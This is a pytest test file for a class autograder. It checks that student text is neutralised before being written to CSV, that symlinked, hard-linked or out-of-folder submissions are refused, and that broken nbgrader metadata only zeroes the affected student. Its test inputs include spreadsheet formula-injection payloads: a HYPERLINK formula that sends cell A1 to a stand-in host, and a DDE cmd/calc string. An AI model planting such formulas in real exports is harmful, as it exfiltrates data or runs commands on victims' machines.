"""What the grader takes in from a class folder, each case from the grader's attack audit: a student's text
that a spreadsheet would evaluate, links (a symlinked student folder, a link to the instructor's notebooks,
a symlinked file, a hard link, a file outside the class folder), one file listed under two names, and
nbgrader notebooks whose metadata used to end the whole class's autograde.

Every case asserts what the instructor gets: the exact CSV cell, the refusal message, a score of 0, no
score file written through a link, and every other student's row and score intact.
"""

import copy
import csv
import json
import os
import pathlib
import shutil
import subprocess
import sys

import nbformat
import pytest

from helpers.grading import grade, grade_class, nbgrader_course, nbgrader_class, submission
from helpers.grading.report import spreadsheet_cell

pytestmark = pytest.mark.usefixtures("bubblewrap")
REPO = pathlib.Path(__file__).parents[1]
STUDENT = REPO / "assignments" / "02_activations.ipynb"
REFERENCE = REPO / "notebooks" / "02_activations.ipynb"
NAME = REFERENCE.name
LINKED = ("is reached through a symbolic link ({}): a submission is read only from its own folder, never through a "
          "link (one could lead to another student's folder or to the solutions)")
HARD = ("is a hard link (the file has 2 names): a submission must be a file of its own, not another file linked into "
        "the student's folder; submit a copy")
SYMLINK = "is a symbolic link, not a submitted notebook: submit the file itself"
NOT_WRITTEN = "; no .grade.json was written beside it"


def test_spreadsheet_cells_of_student_text_are_never_formulas():
    assert spreadsheet_cell('=HYPERLINK("http://x.example/?"&A1,"ok")') == '\'=HYPERLINK("http://x.example/?"&A1,"ok")'
    assert spreadsheet_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert spreadsheet_cell("-2+3") == "'-2+3"
    assert spreadsheet_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert spreadsheet_cell("\t=1") == "'\\x09=1"  # escaped by printable, and still prefixed
    assert spreadsheet_cell("\r=1") == "'\\x0d=1"
    assert spreadsheet_cell("\x1b[2J") == "\\x1b[2J"  # control characters stay escaped, no prefix needed
    assert spreadsheet_cell("bob/02_activations.ipynb = fine") == "bob/02_activations.ipynb = fine"
    assert spreadsheet_cell("") == ""


def test_write_csv_prefixes_the_submission_and_the_problem(tmp_path):
    reports = [{"submission": "=2+5/02_activations.ipynb", "score": 0.0, "max_score": 4.0, "seed": 1,
                "problem": "@SUM(1)\x1b[31m"},
               {"submission": "bob/02_activations.ipynb", "score": 4.0, "max_score": 4.0, "seed": 2, "problem": ""}]
    grade_class.write_csv(reports, tmp_path / "scores.csv")
    with open(tmp_path / "scores.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows == [["submission", "score", "max_score", "seed", "problem"],
                    ["'=2+5/02_activations.ipynb", "0.0", "4.0", "1", "'@SUM(1)\\x1b[31m"],
                    ["bob/02_activations.ipynb", "4.0", "4.0", "2", ""]]


@pytest.fixture
def class_folder(tmp_path):
    """``class/``: bob (the solved notebook), a student version in ``=2+5``, and students whose folder or file
    is a link (alice -> bob, carol -> the instructor's folder, ``@x`` -> bob, erin's file -> bob's) or a hard
    link of the instructor's notebook (dave); ``instructor/`` holds the solutions, outside the class."""
    cls, instructor = tmp_path / "class", tmp_path / "instructor"
    for folder in (cls / "bob", cls / "=2+5", cls / "dave", cls / "erin", instructor):
        folder.mkdir(parents=True)
    shutil.copy(REFERENCE, cls / "bob" / NAME)
    shutil.copy(STUDENT, cls / "=2+5" / NAME)
    shutil.copy(REFERENCE, instructor / NAME)
    (cls / "alice").symlink_to("bob")
    (cls / "carol").symlink_to(instructor)
    (cls / "@x").symlink_to("bob")
    (cls / "erin" / NAME).symlink_to(cls / "bob" / NAME)
    os.link(instructor / NAME, cls / "dave" / NAME)
    return cls


def test_a_class_run_refuses_every_link_and_keeps_every_row(class_folder, monkeypatch, capsys):
    cls = class_folder
    monkeypatch.chdir(cls)
    listed = [f"{s}/{NAME}" for s in ("bob", "alice", "carol", "dave", "erin", "=2+5", "@x", "bob/../bob")]
    out = cls.parent / "scores.csv"
    assert grade_class.main([*listed, "--chapter", "02", "--serial", "--seed", "1", "--cell-timeout", "10", "--total-timeout", "120",
                             "--csv", str(out)]) == 0
    with open(out, newline="") as f:
        rows = [(r["submission"], float(r["score"]), float(r["max_score"]), r["problem"]) for r in csv.DictReader(f)]
    assert rows == [
        (f"bob/{NAME}", 4.0, 4.0, ""),
        (f"alice/{NAME}", 0.0, 4.0, f"alice/{NAME} " + LINKED.format(cls / "alice") + NOT_WRITTEN),
        (f"carol/{NAME}", 0.0, 4.0, f"carol/{NAME} " + LINKED.format(cls / "carol") + NOT_WRITTEN),
        (f"dave/{NAME}", 0.0, 4.0, f"dave/{NAME} {HARD}" + NOT_WRITTEN),
        (f"erin/{NAME}", 0.0, 4.0, f"erin/{NAME} {SYMLINK}" + NOT_WRITTEN),
        (f"'=2+5/{NAME}", 0.0, 4.0, ""),
        (f"'@x/{NAME}", 0.0, 4.0, f"'@x/{NAME} " + LINKED.format(cls / "@x") + NOT_WRITTEN),
        (f"bob/../bob/{NAME}", 0.0, 4.0, f"bob/../bob/{NAME} is the same file as bob/{NAME}, listed before it "
                                         "(listed twice, or two names of one folder): graded once, in that row")]
    saved = json.loads((cls / "bob" / "02_activations.grade.json").read_text())
    assert (saved["submission"], saved["score"], saved["problem"]) == (f"bob/{NAME}", 4.0, "")  # not alice's, @x's
    assert json.loads((cls / "=2+5" / "02_activations.grade.json").read_text())["score"] == 0.0
    assert sorted(p.name for p in cls.parent.joinpath("instructor").iterdir()) == [NAME]  # nothing via carol
    assert sorted(p.name for p in (cls / "dave").iterdir()) == [NAME]
    assert sorted(p.name for p in (cls / "erin").iterdir()) == [NAME]
    err = capsys.readouterr().err
    assert f"warning: bob/../bob/{NAME} is listed twice (as bob/{NAME}); graded once" in err
    assert f"alice/{NAME}: refused, no .grade.json written" in err


def test_a_file_outside_the_named_class_folder_is_refused(class_folder):
    outside = class_folder.parent / "instructor" / NAME
    problem = (f"{outside} is not inside the class folder {class_folder}: only submissions in it are graded")
    assert submission.read_submission(outside, root=class_folder) == (None, problem)
    report = grade.grade(outside, cell_timeout=10, root=class_folder)
    assert (report["score"], report["max_score"], report["problem"]) == (0.0, 4.0, problem)
    assert grade_class.class_folder([class_folder / "bob" / NAME, class_folder / "alice" / NAME]) == str(class_folder)
    assert grade_class.class_folder([], class_dir=class_folder / "alice") == str(class_folder / "bob")


def test_the_single_grader_refuses_any_link_in_the_path_and_writes_nothing_through_it(class_folder, capsys):
    cls = class_folder
    for student, problem in (("alice", LINKED.format(cls / "alice")), ("carol", LINKED.format(cls / "carol")),
                             ("dave", HARD), ("erin", SYMLINK)):
        path = cls / student / NAME
        report = grade.grade(path, cell_timeout=10)
        assert (report["score"], report["max_score"], report["problem"]) == (0.0, 4.0, f"{path} {problem}")
        assert all(r["messages"] == [f"{path} {problem}"] for r in report["exercises"])
        assert grade.main([str(path), "--chapter", "02", "--cell-timeout", "10"]) == 0
        assert f"no score file written beside it ({path} {problem})" in capsys.readouterr().out
    assert not (cls / "bob" / "02_activations.grade.json").exists()  # alice's refusal did not land in bob's folder
    assert sorted(p.name for p in cls.parent.joinpath("instructor").iterdir()) == [NAME]


def test_the_opened_file_itself_is_checked_not_only_the_path(class_folder, monkeypatch):
    """A folder swapped for a link, or a file hard-linked, after the path was checked: the descriptor walk
    (``O_NOFOLLOW`` on every folder and on the file) and ``fstat`` of the opened file still refuse it."""
    monkeypatch.setattr(submission, "link_problem", lambda path, root=None: "")
    alice, dave, erin = (class_folder / s / NAME for s in ("alice", "dave", "erin"))
    assert submission.read_submission(alice) == (None, f"{alice} is reached through a symbolic link (it changed while "
                                                       "being checked): submit the file itself")
    assert submission.read_submission(dave) == (None, f"{dave} {HARD}")
    assert submission.read_submission(erin) == (None, f"{erin} {SYMLINK}")
    nb, problem = submission.read_submission(class_folder / "bob" / NAME)
    assert problem == "" and nb.cells


def test_on_dask_the_note_of_a_refused_score_file_reaches_the_report(class_folder):
    paths = [class_folder / "alice" / NAME, class_folder / "erin" / NAME]
    root = grade_class.class_folder(paths)
    reports, _ = grade_class.grade_class(paths, seed=3, workers=1, cell_timeout=10,
                                         done=grade_class._saver("scores.csv", root))
    assert [r["problem"] for r in reports] == [f"{paths[0]} " + LINKED.format(class_folder / "alice") + NOT_WRITTEN,
                                               f"{paths[1]} {SYMLINK}" + NOT_WRITTEN]
    assert [r["score"] for r in reports] == [0.0, 0.0]


# -- nbgrader: a notebook nbgrader cannot grade is its student's 0, not the end of the class --------------------


def _nbgrader(course, *args):
    env = {**os.environ, "PATH": f"{pathlib.Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course, env=env, capture_output=True,
                          text=True, timeout=600)


def _test_cell(nb):
    return next(i for i, c in enumerate(nb.cells)
                if c.metadata.get("nbgrader", {}).get("grade_id") == "check_normalize_feature_map")


def _copied_cell(nb):
    nb.cells.insert(_test_cell(nb) + 1, copy.deepcopy(nb.cells[_test_cell(nb)]))


def _schema_4(nb):
    nb.cells[_test_cell(nb)].metadata.nbgrader["schema_version"] = 4


def _old_metadata(nb):
    del nb.cells[_test_cell(nb)].metadata.nbgrader["schema_version"]


BROKEN = {"b_copied_cell": _copied_cell, "c_schema_4": _schema_4, "d_old_metadata": _old_metadata}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A chapter 02 course: two honest students around three whose nbgrader metadata is broken."""
    course = tmp_path_factory.mktemp("course")
    assert nbgrader_course.main(["init", str(course), "--chapters", "02"]) == 0
    assert _nbgrader(course, "generate_assignment", "ch02", "--force").returncode == 0
    [solution] = [c.source for c in nbformat.read(REFERENCE, as_version=4).cells
                  if c.source.startswith("# EXERCISE normalize_feature_map")]
    for student, edit in {"a_honest": None, **BROKEN, "e_honest": None}.items():
        nb = nbformat.read(course / "release" / "ch02" / NAME, as_version=4)
        for cell in nb.cells:
            if cell.source.startswith("# EXERCISE normalize_feature_map"):
                cell.source = solution
        if edit:
            edit(nb)
        path = course / "submitted" / student / "ch02" / NAME
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    return course


def _reasons(course):
    number = _test_cell(nbformat.read(course / "release" / "ch02" / NAME, as_version=4)) + 1
    schema = (f"cell {number} (check_normalize_feature_map) has nbgrader metadata of schema version {{}}, not 3 "
              "(a cell pasted from another release, or edited metadata)")
    return {"b_copied_cell": "grade id check_normalize_feature_map is on 2 cells (a copied cell): keep only the original",
            "c_schema_4": schema.format(4), "d_old_metadata": schema.format(0)}


def test_each_kind_of_broken_metadata_is_named(course):
    released = nbformat.read(course / "release" / "ch02" / NAME, as_version=4)
    assert nbgrader_class.metadata_problems(released) == []
    for student, reason in _reasons(course).items():
        nb = copy.deepcopy(released)
        BROKEN[student](nb)
        assert nbgrader_class.metadata_problems(nb) == [reason]


def test_nbgraders_own_autograde_goes_on_past_a_broken_notebook(course):
    done = _nbgrader(course, "autograde", "ch02", "--create", "--force")
    assert done.returncode == 1  # nbgrader says at the end that some failed; it no longer stops at the first
    assert sorted(p.parts[-3] for p in (course / "autograded").glob(f"*/ch02/{NAME}")) == ["a_honest", "e_honest"]
    for student, reason in _reasons(course).items():
        assert f"BrokenSubmission: {reason}" in done.stderr
        assert f"There was an error processing assignment 'ch02' for student '{student}'" in done.stderr


def test_class_autograde_gives_a_broken_notebook_0_with_its_reason_and_grades_the_rest(course, capsys):
    assert nbgrader_course.main(["autograde", "ch02", "--course-dir", str(course)]) == 1
    reasons = _reasons(course)
    assert capsys.readouterr().out.splitlines() == [
        "a_honest: graded",
        *[f"{s}: 0 points, not graded: BrokenSubmission: {reasons[s]}" for s in BROKEN],
        "e_honest: graded",
        "2 of 5 submissions of ch02 graded; 3 not graded (0 points, reasons above)"]
    assert _nbgrader(course, "export", "--to", "grades.csv").returncode == 0
    with open(course / "grades.csv") as f:
        scores = {row["student_id"]: (float(row["score"]), float(row["max_score"])) for row in csv.DictReader(f)}
    assert scores == {"a_honest": (2.0, 5.0), "b_copied_cell": (0.0, 5.0), "c_schema_4": (0.0, 5.0),
                      "d_old_metadata": (0.0, 5.0), "e_honest": (2.0, 5.0)}
